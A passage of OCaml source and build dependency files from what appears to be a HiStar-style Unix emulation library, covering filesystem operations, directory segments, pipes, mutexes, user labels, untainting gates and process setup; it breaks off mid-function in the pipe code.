  Dirseg.add (ensure_dirseg pdir.oid) { Dirseg.name; oid = dir; is_dir = true };
  dir

let readdir t path =
  let dir = lookup_dir t path in
  Dirseg.entries (ensure_dirseg dir.oid)

(* ---------- files ---------- *)

let create t ?label ?(quota = default_file_quota) path =
  let ppath, name = parent_of path in
  let pdir = lookup_dir t ppath in
  let label =
    match label with Some l -> l | None -> Sys.obj_label (entry pdir)
  in
  let file =
    with_quota_retry t ppath quota (fun () ->
        Sys.segment_create ~container:pdir.oid ~label ~quota ~len:0 name)
  in
  grow_dirseg t ppath (String.length name + 16);
  Dirseg.add (ensure_dirseg pdir.oid) { Dirseg.name; oid = file; is_dir = false };
  centry pdir.oid file

let find_file t path =
  match resolve t path with
  | Some (n, chain) when not n.is_dir -> Some (n, chain)
  | Some _ -> invalid_arg (Printf.sprintf "Fs: %s is a directory" path)
  | None -> None

(* Modification time lives in the object's 64 bytes of user-defined
   metadata, as §3 suggests. *)
let set_mtime ce =
  let e = Histar_util.Codec.Enc.create () in
  Histar_util.Codec.Enc.i64 e (Sys.clock_ns ());
  Sys.set_metadata ce (Histar_util.Codec.Enc.to_string e)

let write_file t path data =
  let node, chain =
    match find_file t path with
    | Some (n, c) -> (n, c)
    | None -> (
        ignore (create t path);
        match find_file t path with
        | Some (n, c) -> (n, c)
        | None -> invalid_arg "Fs.write_file: create failed")
  in
  ignore chain;
  let ce = entry node in
  let avail = avail_of ce in
  let size = Sys.segment_size ce in
  let need = Int64.sub (Int64.of_int (String.length data - size)) avail in
  (if Int64.compare need 0L > 0 then
     let dirpath, _ = parent_of path in
     reserve_into t ~dirpath ~target:node.oid need);
  Sys.segment_resize ce (String.length data);
  if String.length data > 0 then Sys.segment_write ce data;
  try set_mtime ce with Kernel_error _ -> ()

let append_file t path data =
  if not (exists t path) then ignore (create t path);
  match find_file t path with
  | None -> invalid_arg "Fs.append_file"
  | Some (node, _chain) ->
      let ce = entry node in
      let size = Sys.segment_size ce in
      let need = Int64.sub (Int64.of_int (String.length data)) (avail_of ce) in
      (if Int64.compare need 0L > 0 then
         let dirpath, _ = parent_of path in
         reserve_into t ~dirpath ~target:node.oid need);
      Sys.segment_resize ce (size + String.length data);
      Sys.segment_write ce ~off:size data;
      (try set_mtime ce with Kernel_error _ -> ())

let read_file t path =
  match find_file t path with
  | Some (n, _) -> Sys.segment_read (entry n) ()
  | None -> invalid_arg (Printf.sprintf "Fs: no such file: %s" path)

let file_size t path =
  match find_file t path with
  | Some (n, _) -> Sys.segment_size (entry n)
  | None -> invalid_arg (Printf.sprintf "Fs: no such file: %s" path)

let unlink t path =
  let ppath, name = parent_of path in
  let pdir = lookup_dir t ppath in
  let ds = ensure_dirseg pdir.oid in
  match Dirseg.lookup ds name with
  | None -> invalid_arg (Printf.sprintf "Fs: no such entry: %s" path)
  | Some e ->
      ignore (Dirseg.remove ds name);
      Sys.unref (centry pdir.oid e.Dirseg.oid)

let rename t ~src ~dst =
  let sp, sname = parent_of src in
  let dp, dname = parent_of dst in
  let sdir = lookup_dir t sp in
  if String.equal (norm_path sp) (norm_path dp) then begin
    if not (Dirseg.rename (ensure_dirseg sdir.oid) ~src:sname ~dst:dname) then
      invalid_arg (Printf.sprintf "Fs.rename: no such entry: %s" src)
  end
  else begin
    (* cross-directory: hard-link into the destination, then unlink *)
    let ddir = lookup_dir t dp in
    let ds = ensure_dirseg sdir.oid in
    match Dirseg.lookup ds sname with
    | None -> invalid_arg (Printf.sprintf "Fs.rename: no such entry: %s" src)
    | Some e ->
        if e.Dirseg.is_dir then
          invalid_arg "Fs.rename: cross-directory directory rename unsupported";
        Sys.set_fixed_quota (centry sdir.oid e.Dirseg.oid);
        ensure_headroom t dp
          (fst (Sys.obj_quota (centry sdir.oid e.Dirseg.oid)));
        Sys.container_link ~container:ddir.oid
          ~target:(centry sdir.oid e.Dirseg.oid);
        grow_dirseg t dp (String.length dname + 16);
        Dirseg.add (ensure_dirseg ddir.oid)
          { Dirseg.name = dname; oid = e.Dirseg.oid; is_dir = false };
        ignore (Dirseg.remove ds sname);
        Sys.unref (centry sdir.oid e.Dirseg.oid)
  end

let link t ~src ~dst =
  match find_file t src with
  | None -> invalid_arg (Printf.sprintf "Fs.link: no such file: %s" src)
  | Some (n, _) ->
      let dp, dname = parent_of dst in
      let ddir = lookup_dir t dp in
      Sys.set_fixed_quota (entry n);
      ensure_headroom t dp (fst (Sys.obj_quota (entry n)));
      Sys.container_link ~container:ddir.oid ~target:(entry n);
      grow_dirseg t dp (String.length dname + 16);
      Dirseg.add (ensure_dirseg ddir.oid)
        { Dirseg.name = dname; oid = n.oid; is_dir = false }

(* §9: chmod/chown change a file's label by *copying* the segment with
   the new label and swapping the directory entry — open descriptors to
   the old object are implicitly revoked when it is unreferenced. *)
let relabel t path ~label =
  let ppath, name = parent_of path in
  let pdir = lookup_dir t ppath in
  match find_file t path with
  | None -> invalid_arg (Printf.sprintf "Fs.relabel: no such file: %s" path)
  | Some (n, _) ->
      let quota = fst (Sys.obj_quota (entry n)) in
      ensure_headroom t ppath quota;
      let fresh =
        Sys.segment_copy ~src:(entry n) ~container:pdir.oid ~label ~quota name
      in
      let ds = ensure_dirseg pdir.oid in
      ignore (Dirseg.remove ds name);
      Dirseg.add ds { Dirseg.name; oid = fresh; is_dir = false };
      Sys.unref (entry n);
      centry pdir.oid fresh

let mtime t path =
  match find_file t path with
  | None -> invalid_arg (Printf.sprintf "Fs.mtime: no such file: %s" path)
  | Some (n, _) -> (
      let md = Sys.get_metadata (entry n) in
      if String.length md < 8 then None
      else
        let d = Histar_util.Codec.Dec.of_string md in
        Some (Histar_util.Codec.Dec.i64 d))

let fsync t path =
  match resolve t path with
  | None -> invalid_arg (Printf.sprintf "Fs.fsync: no such file: %s" path)
  | Some (n, _) ->
      let ds = ensure_dirseg n.parent in
      Sys.sync_many [ entry n; ds; self_entry n.parent ]

(* §7.1: "we implement fsync of a directory by checkpointing the
   entire system state" — the cause of HiStar's slow synchronous
   unlink. *)
let fsync_dir t path =
  if not (is_dir t path) then
    invalid_arg (Printf.sprintf "Fs.fsync_dir: not a directory: %s" path);
  Sys.sync_all ()

let fsync_range t path ~off ~len =
  match find_file t path with
  | Some (n, _) -> Sys.sync_range (entry n) ~off ~len
  | None -> invalid_arg (Printf.sprintf "Fs.fsync_range: %s" path)

let fsync_data t path =
  match resolve t path with
  | None -> invalid_arg (Printf.sprintf "Fs.fsync_data: %s" path)
  | Some (n, _) -> Sys.sync_object (entry n)
