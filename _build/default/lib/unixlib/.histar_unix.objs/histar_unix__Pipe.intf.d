lib/unixlib/pipe.mli: Histar_core Histar_label
