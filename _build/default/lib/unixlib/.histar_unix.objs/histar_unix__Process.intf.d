lib/unixlib/process.mli: Buffer Fs Histar_core Histar_label
