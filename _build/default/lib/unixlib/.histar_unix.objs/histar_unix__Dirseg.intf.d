lib/unixlib/dirseg.mli: Histar_core Histar_label
