lib/unixlib/dirseg.ml: Histar_core Histar_util Int64 List Mutex0 Printf String
