lib/unixlib/mutex0.mli: Histar_core
