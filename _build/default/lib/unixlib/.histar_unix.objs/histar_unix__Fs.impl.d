lib/unixlib/fs.ml: Dirseg Hashtbl Histar_core Histar_label Histar_util Int64 List Option Printf String
