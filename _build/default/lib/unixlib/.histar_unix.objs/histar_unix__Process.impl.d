lib/unixlib/process.ml: Buffer Fs Hashtbl Histar_core Histar_label Histar_util Int64 List Option Pipe Printf String
