lib/unixlib/users.ml: Fs Histar_core Histar_label Process
