lib/unixlib/mutex0.ml: Histar_core
