lib/unixlib/untaint.ml: Fs Histar_core Histar_label Histar_util List
