lib/unixlib/untaint.mli: Fs Histar_core Histar_label
