lib/unixlib/pipe.ml: Histar_core Histar_util Int64 Mutex0 String
