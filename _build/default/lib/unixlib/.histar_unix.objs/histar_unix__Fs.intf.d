lib/unixlib/fs.mli: Dirseg Histar_core Histar_label
