lib/unixlib/users.mli: Fs Histar_core Histar_label Process
