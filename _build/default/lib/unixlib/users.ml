module Sys = Histar_core.Sys
module Label = Histar_label.Label
module Level = Histar_label.Level
open Histar_core.Types

let ensure_home_root ~fs =
  if not (Fs.exists fs "/home") then ignore (Fs.mkdir fs "/home");
  match Fs.lookup fs "/home" with
  | Some n -> n.Fs.oid
  | None -> invalid_arg "Users: cannot create /home"

let private_label (u : Process.user) =
  Label.of_list [ (u.Process.ur, Level.L3); (u.Process.uw, Level.L0) ] Level.L1

let readonly_label (u : Process.user) =
  Label.of_list [ (u.Process.uw, Level.L0) ] Level.L1

let home (u : Process.user) = "/home/" ^ u.Process.user_name

let create_user ~fs ~name =
  ignore (ensure_home_root ~fs);
  let ur = Sys.cat_create () in
  let uw = Sys.cat_create () in
  let user = { Process.user_name = name; ur; uw } in
  ignore (Fs.mkdir fs ~label:(private_label user) (home user));
  user

let owns label (u : Process.user) =
  Label.owns label u.Process.ur && Label.owns label u.Process.uw

let grant_spec (u : Process.user) =
  [ (u.Process.ur, Level.Star); (u.Process.uw, Level.Star) ]

let sees ~fs ~viewer path =
  match Fs.lookup fs path with
  | None -> false
  | Some n -> (
      match Sys.obj_label (Fs.entry n) with
      | lbl -> Label.can_observe ~thread:viewer ~obj:lbl
      | exception Kernel_error _ -> false)
