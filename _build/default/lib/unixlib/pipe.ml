module Sys = Histar_core.Sys
module Codec = Histar_util.Codec
open Histar_core.Types

let capacity = 65_536
let off_mutex = 0
let off_rpos = 8
let off_wpos = 16
let off_writers = 24
let data_start = 32

type t = { seg : centry }

let entry t = t.seg
let of_entry seg = { seg }

let word ce off =
  let d = Codec.Dec.of_string (Sys.segment_read ce ~off ~len:8 ()) in
  Codec.Dec.i64 d

let set_word ce off v =
  let e = Codec.Enc.create () in
  Codec.Enc.i64 e v;
  Sys.segment_write ce ~off (Codec.Enc.to_string e)

let create ~container ~label =
  let len = data_start + capacity in
  let seg =
    Sys.segment_create ~container ~label
      ~quota:(Int64.of_int (len + 4096))
      ~len "pipe"
  in
  let t = { seg = centry container seg } in
  set_word t.seg off_writers 1L;
  t

let mutex t = Mutex0.at t.seg ~off:off_mutex

let add_writer t =
  Mutex0.with_lock (mutex t) (fun () ->
      set_word t.seg off_writers (Int64.add (word t.seg off_writers) 1L))

let close_writer t =
  Mutex0.with_lock (mutex t) (fun () ->
      set_word t.seg off_writers (Int64.sub (word t.seg off_writers) 1L));
  (* wake readers so they can observe EOF *)
  ignore (Sys.futex_wake t.seg ~off:off_wpos ~count:max_int)

(* Copy [data] into the ring at logical position [wpos]. *)
let ring_write t ~wpos data =
  let start = Int64.to_int (Int64.rem wpos (Int64.of_int capacity)) in
  let first = min (String.length data) (capacity - start) in
  Sys.segment_write t.seg ~off:(data_start + start) (String.sub data 0 first);
  if first < String.length data then
    Sys.segment_write t.seg ~off:data_start
      (String.sub data first (String.length data - first))

let ring_read t ~rpos n =
  let start = Int64.to_int (Int64.rem rpos (Int64.of_int capacity)) in
  let first = min n (capacity - start) in
  let a = Sys.segment_read t.seg ~off:(data_start + start) ~len:first () in
  if first < n then
    a ^ Sys.segment_read t.seg ~off:data_start ~len:(n - first) ()
  else a

let rec write t data =
  if String.length data = 0 then ()
  else begin
    Mutex0.lock (mutex t);
    let rpos = word t.seg off_rpos in
    let wpos = word t.seg off_wpos in
    let space = capacity - Int64.to_int (Int64.sub wpos rpos) in
    if space = 0 then begin
      Mutex0.unlock (mutex t);
      (* sleep until a reader advances rpos *)
      Sys.futex_wait t.seg ~off:off_rpos ~expected:rpos;
      write t data
    end
    else begin
      let n = min space (String.length data) in
      ring_write t ~wpos (String.sub data 0 n);
      set_word t.seg off_wpos (Int64.add wpos (Int64.of_int n));
      Mutex0.unlock (mutex t);
      ignore (Sys.futex_wake t.seg ~off:off_wpos ~count:max_int);
      write t (String.sub data n (String.length data - n))
    end
  end

let rec read t ~max =
  Mutex0.lock (mutex t);
  let rpos = word t.seg off_rpos in
  let wpos = word t.seg off_wpos in
  let avail = Int64.to_int (Int64.sub wpos rpos) in
  if avail = 0 then begin
    let writers = word t.seg off_writers in
    Mutex0.unlock (mutex t);
    if Int64.equal writers 0L then None
    else begin
      Sys.futex_wait t.seg ~off:off_wpos ~expected:wpos;
      read t ~max
    end
  end
  else begin
    let n = min avail max in
    let data = ring_read t ~rpos n in
    set_word t.seg off_rpos (Int64.add rpos (Int64.of_int n));
    Mutex0.unlock (mutex t);
    ignore (Sys.futex_wake t.seg ~off:off_rpos ~count:max_int);
    Some data
  end
