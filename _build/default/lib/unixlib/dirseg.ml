module Sys = Histar_core.Sys
module Codec = Histar_util.Codec
open Histar_core.Types

type entry = { name : string; oid : oid; is_dir : bool }

let header_bytes = 16 (* mutex word + generation word *)

let encode_entries es =
  let e = Codec.Enc.create () in
  Codec.Enc.list e
    (fun e en ->
      Codec.Enc.str e en.name;
      Codec.Enc.i64 e en.oid;
      Codec.Enc.bool e en.is_dir)
    es;
  Codec.Enc.to_string e

let decode_entries s =
  let d = Codec.Dec.of_string s in
  Codec.Dec.list d (fun d ->
      let name = Codec.Dec.str d in
      let oid = Codec.Dec.i64 d in
      let is_dir = Codec.Dec.bool d in
      { name; oid; is_dir })

let create ~dir ~label =
  let body = encode_entries [] in
  let len = header_bytes + String.length body in
  let seg =
    Sys.segment_create ~container:dir ~label
      ~quota:(Int64.of_int (4096 + len))
      ~len "directory segment"
  in
  Sys.segment_write (centry dir seg) ~off:header_bytes body;
  (* record the dirseg oid in the container's metadata *)
  let e = Codec.Enc.create () in
  Codec.Enc.i64 e seg;
  Sys.set_metadata (self_entry dir) (Codec.Enc.to_string e);
  seg

let of_dir ~dir_entry =
  let md = Sys.get_metadata dir_entry in
  if String.length md < 8 then
    invalid_arg "Dirseg.of_dir: container has no directory segment";
  let d = Codec.Dec.of_string md in
  centry dir_entry.object_id (Codec.Dec.i64 d)

let word ce off =
  let d = Codec.Dec.of_string (Sys.segment_read ce ~off ~len:8 ()) in
  Codec.Dec.i64 d

let generation ce = word ce 8

(* Consistent read without write permission: generation + busy flag
   sampled before and after (§5.1). *)
let entries ce =
  let rec attempt tries =
    if tries > 10_000 then failwith "Dirseg.entries: livelock";
    let gen0 = generation ce in
    let busy = word ce 0 in
    if not (Int64.equal busy 0L) then begin
      Sys.yield ();
      attempt (tries + 1)
    end
    else
      let body = Sys.segment_read ce ~off:header_bytes ~len:(-1) () in
      let gen1 = generation ce in
      if Int64.equal gen0 gen1 then decode_entries body
      else attempt (tries + 1)
  in
  attempt 0

let lookup ce name =
  List.find_opt (fun e -> String.equal e.name name) (entries ce)

let mutex ce = Mutex0.at ce ~off:0

let write_entries ce es =
  let body = encode_entries es in
  let gen = generation ce in
  Sys.segment_resize ce (header_bytes + String.length body);
  (* resize may have zeroed past data only beyond length; rewrite
     generation and body *)
  let e = Codec.Enc.create () in
  Codec.Enc.i64 e (Int64.add gen 1L);
  Sys.segment_write ce ~off:8 (Codec.Enc.to_string e);
  Sys.segment_write ce ~off:header_bytes body

let read_entries_locked ce =
  decode_entries (Sys.segment_read ce ~off:header_bytes ~len:(-1) ())

let add ce en =
  Mutex0.with_lock (mutex ce) (fun () ->
      let es = read_entries_locked ce in
      if List.exists (fun e -> String.equal e.name en.name) es then
        invalid_arg (Printf.sprintf "Dirseg.add: %s exists" en.name);
      write_entries ce (es @ [ en ]))

let remove ce name =
  Mutex0.with_lock (mutex ce) (fun () ->
      let es = read_entries_locked ce in
      let es' = List.filter (fun e -> not (String.equal e.name name)) es in
      if List.length es' = List.length es then false
      else begin
        write_entries ce es';
        true
      end)

let rename ce ~src ~dst =
  Mutex0.with_lock (mutex ce) (fun () ->
      let es = read_entries_locked ce in
      match List.find_opt (fun e -> String.equal e.name src) es with
      | None -> false
      | Some moved ->
          let es' =
            List.filter_map
              (fun e ->
                if String.equal e.name dst then None
                else if String.equal e.name src then
                  Some { moved with name = dst }
                else Some e)
              es
          in
          write_entries ce es';
          true)
