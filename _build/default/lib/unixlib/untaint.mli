(** The §5.8 explicit information leaks.

    Unix was not designed to control information flow; emulating some of
    its semantics requires small, deliberate leaks, implemented at user
    level as untainting gates created by the *owner* of the taint
    category. The library provides the paper's three:

    - process exit (built into {!Process.spawn} via [?untaint_exit]);
    - file creation — declassifies only the *name* of the new file into
      an untainted directory, while the file itself stays tainted;
    - quota adjustment — lets a tainted process obtain more storage from
      a container it cannot write.

    Whether to create each gate is the category owner's policy choice:
    wrap (§6.1) creates none of them, which is what makes its isolation
    airtight at the cost of the scanner exiting silently. *)

open Histar_core.Types

val make_file_create_gate :
  fs:Fs.t ->
  container:oid ->
  taints:Histar_label.Category.t list ->
  centry
(** Create a gate (in [container]) that lets threads tainted in
    [taints] create files in untainted directories. The calling thread
    must own every category in [taints]. The created files are labeled
    tainted at level 3 in each category — only the name leaks. *)

val create_file_via :
  gate:centry -> return_container:oid -> string -> centry
(** Invoke the gate from a tainted thread: create the named file and
    return its container entry. *)

val make_quota_gate :
  container:oid -> taints:Histar_label.Category.t list -> centry
(** A gate allowing tainted threads to move quota onto objects from
    containers only the gate's creator can write. *)

val adjust_quota_via :
  gate:centry ->
  return_container:oid ->
  container:oid ->
  target:oid ->
  nbytes:int64 ->
  unit
