(** Unix users (§5.4): a pair of categories [ur]/[uw] per user defines
    read and write privilege; private files are labeled
    [{ur3, uw0, 1}]. There is no superuser — "root" is just a user
    whose categories things happen to be labeled with. *)

open Histar_core.Types

val create_user : fs:Fs.t -> name:string -> Process.user
(** Allocate the user's categories (the calling thread becomes an
    owner) and create [/home/<name>] labeled [{ur3, uw0, 1}]. *)

val private_label : Process.user -> Histar_label.Label.t
(** [{ur3, uw0, 1}]. *)

val readonly_label : Process.user -> Histar_label.Label.t
(** [{uw0, 1}]: world-readable, writable only by the user. *)

val home : Process.user -> string
val owns : Histar_label.Label.t -> Process.user -> bool
(** Does this thread label carry both of the user's categories at ⋆? *)

val grant_spec : Process.user -> (Histar_label.Category.t * Histar_label.Level.t) list
(** Label additions giving full ownership of the user's categories. *)

val sees : fs:Fs.t -> viewer:Histar_label.Label.t -> string -> bool
(** Can a thread with this label read the named file? (Checked against
    the file's label; convenience for tests.) *)

val ensure_home_root : fs:Fs.t -> oid
(** Make sure /home exists; returns its container. *)
