module Sys = Histar_core.Sys

type t = { seg : Histar_core.Types.centry; off : int }

let at seg ~off = { seg; off }

let try_lock t = Sys.segment_cas t.seg ~off:t.off ~expected:0L ~desired:1L

let lock t =
  let rec loop () =
    if try_lock t then ()
    else begin
      (* sleep while the word reads locked; wake on unlock *)
      Sys.futex_wait t.seg ~off:t.off ~expected:1L;
      loop ()
    end
  in
  loop ()

let unlock t =
  if not (Sys.segment_cas t.seg ~off:t.off ~expected:1L ~desired:0L) then
    invalid_arg "Mutex0.unlock: not locked";
  ignore (Sys.futex_wake t.seg ~off:t.off ~count:1)

let with_lock t f =
  lock t;
  match f () with
  | v ->
      unlock t;
      v
  | exception e ->
      unlock t;
      raise e
