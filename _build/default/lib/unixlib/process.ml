module Sys = Histar_core.Sys
module Label = Histar_label.Label
module Level = Histar_label.Level
module Category = Histar_label.Category
module Codec = Histar_util.Codec
open Histar_core.Types

type user = { user_name : string; ur : Category.t; uw : Category.t }

type fd_target =
  | T_file of centry
  | T_pipe_r of Pipe.t
  | T_pipe_w of Pipe.t

type fd_state = {
  fd_seg : centry;  (** seek position and flags, label {fr3, fw0, 1} *)
  target : fd_target;
  fr : Category.t;
  fw : Category.t;
  append : bool;
}

type t = {
  pname : string;
  parent_ct : oid;  (** container holding the process container *)
  proc_ct : oid;
  internal_ct : oid;
  pr : Category.t;
  pw : Category.t;
  exit_seg : centry;
  signal_gate : centry;
  as_entry : centry;
  puser : user option;
  pfs : Fs.t;
  fds : (int, fd_state) Hashtbl.t;
  mutable next_fd : int;
  handlers : (int, int -> unit) Hashtbl.t;
  out_buf : Buffer.t;
  mutable sig_thread : oid;
  exit_gate : centry option;
      (** §5.8 untainting gate for process exit: lets a tainted child
          declassify the single fact that it exited, with its status *)
}

type handle = {
  h_parent_ct : oid;
  h_proc_ct : oid;
  h_exit_seg : centry;
  h_signal_gate : centry;
  h_pr : Category.t;  (** needed to request the gate's grant on kill *)
  h_pw : Category.t;
}

type fd = int

let name t = t.pname
let fs t = t.pfs
let container t = t.proc_ct
let internal t = t.internal_ct
let categories t = (t.pr, t.pw)
let proc_user t = t.puser
let output t = t.out_buf
let printf t fmt = Printf.bprintf t.out_buf fmt
let handle_container h = h.h_proc_ct
let handle_exit_seg h = h.h_exit_seg
let fd_count t = Hashtbl.length t.fds

let l entries d = Label.of_list entries d

(* The label of a process's threads: {pr⋆, pw⋆, user cats ⋆, extras, 1} *)
let thread_label ~pr ~pw ~user ~extra =
  let base =
    l
      ([ (pr, Level.Star); (pw, Level.Star) ]
      @ (match user with
        | Some u -> [ (u.ur, Level.Star); (u.uw, Level.Star) ]
        | None -> [])
      @ extra)
      Level.L1
  in
  base

(* Clearance covering a label: owned categories at 3, default 2. *)
let clearance_for ?(extra = []) label =
  let base =
    Category.Set.fold
      (fun c acc -> Label.set acc c Level.L3)
      (Label.owned label) (Label.make Level.L2)
  in
  List.fold_left (fun acc (c, lv) -> Label.set acc c lv) base extra

(* ---------- exit-status segment ---------- *)

let word ce off =
  let d = Codec.Dec.of_string (Sys.segment_read ce ~off ~len:8 ()) in
  Codec.Dec.i64 d

let set_word ce off v =
  let e = Codec.Enc.create () in
  Codec.Enc.i64 e v;
  Sys.segment_write ce ~off (Codec.Enc.to_string e)

(* ---------- process structure (Figure 6) ---------- *)

(* Build the kernel objects for a new process. Runs in the creating
   thread, which must currently own [pr] and [pw]. *)
let build_structure ~fs ~parent_ct ~name ~pr ~pw ~user () =
  let pub_label = l [ (pw, Level.L0) ] Level.L1 in
  let priv_label = l [ (pr, Level.L3); (pw, Level.L0) ] Level.L1 in
  let proc_ct =
    Sys.container_create ~container:parent_ct ~label:pub_label
      ~quota:16_777_216L (name ^ " proc")
  in
  let internal_ct =
    Sys.container_create ~container:proc_ct ~label:priv_label ~quota:8_388_608L
      (name ^ " internal")
  in
  let exit_oid =
    Sys.segment_create ~container:proc_ct ~label:pub_label ~quota:4608L ~len:16
      (name ^ " exit status")
  in
  let as_oid =
    Sys.as_create ~container:internal_ct ~label:priv_label ~quota:4608L
      (name ^ " as")
  in
  ignore fs;
  ignore user;
  (proc_ct, internal_ct, centry proc_ct exit_oid, centry internal_ct as_oid)

(* Map text/data/bss/environ/heap/stack into a process address space,
   as exec does. *)
let setup_address_space ~internal_ct ~as_entry ~priv_label ~text =
  let heap =
    Sys.segment_create ~container:internal_ct ~label:priv_label ~quota:266_240L
      ~len:4096 "heap"
  in
  let stack =
    Sys.segment_create ~container:internal_ct ~label:priv_label ~quota:266_240L
      ~len:8192 "stack"
  in
  let data =
    Sys.segment_create ~container:internal_ct ~label:priv_label ~quota:133_120L
      ~len:4096 "data"
  in
  let environ =
    Sys.segment_create ~container:internal_ct ~label:priv_label ~quota:69_632L
      ~len:1024 "environ"
  in
  let flags_rw0 = { Histar_core.Syscall.read = true; write = true; exec = false } in
  Sys.as_map as_entry
    {
      Histar_core.Syscall.va = 0x500000L;
      seg = centry internal_ct data;
      offset = 0;
      npages = 1;
      flags = flags_rw0;
    };
  Sys.as_map as_entry
    {
      Histar_core.Syscall.va = 0x7fe000L;
      seg = centry internal_ct environ;
      offset = 0;
      npages = 1;
      flags = flags_rw0;
    };
  let flags_rw = { Histar_core.Syscall.read = true; write = true; exec = false } in
  let flags_rx = { Histar_core.Syscall.read = true; write = false; exec = true } in
  (match text with
  | Some text_ce ->
      Sys.as_map as_entry
        {
          Histar_core.Syscall.va = 0x400000L;
          seg = text_ce;
          offset = 0;
          npages = 16;
          flags = flags_rx;
        }
  | None -> ());
  Sys.as_map as_entry
    {
      Histar_core.Syscall.va = 0x600000L;
      seg = centry internal_ct heap;
      offset = 0;
      npages = 1;
      flags = flags_rw;
    };
  Sys.as_map as_entry
    {
      Histar_core.Syscall.va = 0x7ff000L;
      seg = centry internal_ct stack;
      offset = 0;
      npages = 2;
      flags = flags_rw;
    };
  (heap, stack)

(* The signal dispatcher thread: waits for alerts and runs handlers.
   Signal 9 always destroys the process. *)
let signal_thread_body proc () =
  Sys.self_set_as proc.as_entry;
  let rec loop () =
    let s = Sys.wait_alert () in
    if s = 9 then begin
      (* destroy the whole process; this thread dies with it *)
      Sys.unref (centry proc.parent_ct proc.proc_ct);
      Sys.self_halt ()
    end
    else begin
      (match Hashtbl.find_opt proc.handlers s with
      | Some h -> ( try h s with _ -> ())
      | None -> ());
      loop ()
    end
  in
  loop ()

(* The signal gate: runs on the sender's thread with {pr⋆, pw⋆},
   reads the signal number from the TLS and alerts the dispatcher. *)
let signal_gate_entry proc () =
  let d = Codec.Dec.of_string (Sys.tls_read ()) in
  let s = Codec.Dec.u8 d in
  (try Sys.thread_alert (centry proc.proc_ct proc.sig_thread) s
   with Kernel_error _ -> ());
  Sys.gate_return ()

let install_signal_infra proc =
  let gate_label = l [ (proc.pr, Level.Star); (proc.pw, Level.Star) ] Level.L1 in
  let gate_clearance =
    match proc.puser with
    | Some u -> l [ (u.uw, Level.L0) ] Level.L2
    | None -> Label.make Level.L2
  in
  let tlabel = thread_label ~pr:proc.pr ~pw:proc.pw ~user:proc.puser ~extra:[] in
  let sig_tid =
    Sys.thread_create ~container:proc.proc_ct ~label:tlabel
      ~clearance:(clearance_for tlabel) ~quota:65_536L
      ~name:(proc.pname ^ " sigthread")
      (fun () -> signal_thread_body proc ())
  in
  proc.sig_thread <- sig_tid;
  let gate_oid =
    Sys.gate_create ~container:proc.proc_ct ~label:gate_label
      ~clearance:gate_clearance ~quota:4096L ~name:(proc.pname ^ " signal gate")
      (fun () -> signal_gate_entry proc ())
  in
  centry proc.proc_ct gate_oid

let boot ~fs ~container ?user ~name () =
  let pr = Sys.cat_create () in
  let pw = Sys.cat_create () in
  let proc_ct, internal_ct, exit_seg, as_entry =
    build_structure ~fs ~parent_ct:container ~name ~pr ~pw ~user ()
  in
  let priv_label = l [ (pr, Level.L3); (pw, Level.L0) ] Level.L1 in
  let _heap, _stack =
    setup_address_space ~internal_ct ~as_entry ~priv_label ~text:None
  in
  let proc =
    {
      pname = name;
      parent_ct = container;
      proc_ct;
      internal_ct;
      pr;
      pw;
      exit_seg;
      signal_gate = exit_seg (* placeholder, replaced below *);
      as_entry;
      puser = user;
      pfs = fs;
      fds = Hashtbl.create 8;
      next_fd = 3;
      handlers = Hashtbl.create 4;
      out_buf = Buffer.create 256;
      sig_thread = 0L;
      exit_gate = None;
    }
  in
  let signal_gate = install_signal_infra proc in
  Sys.self_set_as as_entry;
  { proc with signal_gate }

(* ---------- file descriptors ---------- *)

let mk_fd_state_with_cats proc target ~append ~fr ~fw =
  let fd_label = l [ (fr, Level.L3); (fw, Level.L0) ] Level.L1 in
  let seg =
    Sys.segment_create ~container:proc.proc_ct ~label:fd_label ~quota:4624L
      ~len:16 "fd segment"
  in
  { fd_seg = centry proc.proc_ct seg; target; fr; fw; append }

let mk_fd_state proc target ~append =
  let fr = Sys.cat_create () in
  let fw = Sys.cat_create () in
  mk_fd_state_with_cats proc target ~append ~fr ~fw

let alloc_fd proc st =
  let n = proc.next_fd in
  proc.next_fd <- n + 1;
  Hashtbl.replace proc.fds n st;
  n

let get_fd proc n =
  match Hashtbl.find_opt proc.fds n with
  | Some st -> st
  | None -> invalid_arg (Printf.sprintf "%s: bad fd %d" proc.pname n)

let open_file proc ?(append = false) path =
  match Fs.lookup proc.pfs path with
  | Some node when not node.Fs.is_dir ->
      alloc_fd proc (mk_fd_state proc (T_file (Fs.entry node)) ~append)
  | Some _ -> invalid_arg (Printf.sprintf "open_file: %s is a directory" path)
  | None -> invalid_arg (Printf.sprintf "open_file: no such file: %s" path)

let create_file proc ?label path =
  let ce = Fs.create proc.pfs ?label path in
  alloc_fd proc (mk_fd_state proc (T_file ce) ~append:false)

let read proc n max =
  let st = get_fd proc n in
  match st.target with
  | T_file file ->
      let pos = Int64.to_int (word st.fd_seg 0) in
      let size = Sys.segment_size file in
      let len = min max (size - pos) in
      if len <= 0 then ""
      else begin
        let data = Sys.segment_read file ~off:pos ~len () in
        set_word st.fd_seg 0 (Int64.of_int (pos + len));
        data
      end
  | T_pipe_r p -> ( match Pipe.read p ~max with Some d -> d | None -> "")
  | T_pipe_w _ -> invalid_arg "read: write end of a pipe"

let write proc n data =
  let st = get_fd proc n in
  match st.target with
  | T_file file ->
      let size = Sys.segment_size file in
      let pos = if st.append then size else Int64.to_int (word st.fd_seg 0) in
      let endpos = pos + String.length data in
      if endpos > size then Sys.segment_resize file endpos;
      Sys.segment_write file ~off:pos data;
      if not st.append then set_word st.fd_seg 0 (Int64.of_int endpos);
      String.length data
  | T_pipe_w p ->
      Pipe.write p data;
      String.length data
  | T_pipe_r _ -> invalid_arg "write: read end of a pipe"

let seek proc n pos =
  let st = get_fd proc n in
  set_word st.fd_seg 0 (Int64.of_int pos)

let fd_pos proc n = Int64.to_int (word (get_fd proc n).fd_seg 0)

let close proc n =
  let st = get_fd proc n in
  (match st.target with
  | T_pipe_w p -> Pipe.close_writer p
  | T_pipe_r _ | T_file _ -> ());
  Sys.unref st.fd_seg;
  Hashtbl.remove proc.fds n

(* Both pipe ends share one category pair: every process holding
   either end needs to lock, read and advance the ring. The backing
   segment lives in the (publicly resolvable) process container. *)
let pipe proc =
  let fr = Sys.cat_create () in
  let fw = Sys.cat_create () in
  let plabel = l [ (fr, Level.L3); (fw, Level.L0) ] Level.L1 in
  let p = Pipe.create ~container:proc.proc_ct ~label:plabel in
  let rfd =
    alloc_fd proc (mk_fd_state_with_cats proc (T_pipe_r p) ~append:false ~fr ~fw)
  in
  let wfd =
